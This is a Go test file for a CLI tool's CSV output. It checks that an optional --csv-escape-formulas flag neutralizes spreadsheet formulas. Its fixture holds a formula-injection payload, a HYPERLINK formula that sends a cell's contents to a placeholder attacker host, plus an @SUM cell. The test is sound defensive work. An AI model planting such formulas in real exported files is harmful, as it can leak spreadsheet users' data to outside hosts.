package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// quarry partition's CSV keeps the reference's bytes unless --csv-escape-formulas, which
// quotes the cells a spreadsheet would run (the document's =HYPERLINK paragraph).
func TestAttackCSVFormulaCLI(t *testing.T) {
	doc := filepath.Join(t.TempDir(), "evil.txt")
	if err := os.WriteFile(doc, []byte("=HYPERLINK(\"http://evil.example/?\"&A1)\n\n@SUM(1+1)\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, escape := range []bool{false, true} {
		args := []string{"partition", "--output-format", "csv", doc}
		if escape {
			args = append(args, "--csv-escape-formulas")
		}
		out, errOut, err := runCLI(t, args...)
		if err != nil {
			t.Fatalf("%v: %v %s", args, err, errOut)
		}
		for _, p := range []string{`"=HYPERLINK(""http://evil.example/?""&A1)"`, `@SUM(1+1)`} {
			want := "," + p + ","
			if escape {
				want = ",'" + strings.TrimPrefix(p, `"`) + ","
				if strings.HasPrefix(p, `"`) {
					want = `,"'` + strings.TrimPrefix(p, `"`) + ","
				}
			}
			if !strings.Contains(out, want) {
				t.Errorf("escape=%v: no %s in\n%s", escape, want, out)
			}
		}
	}
}
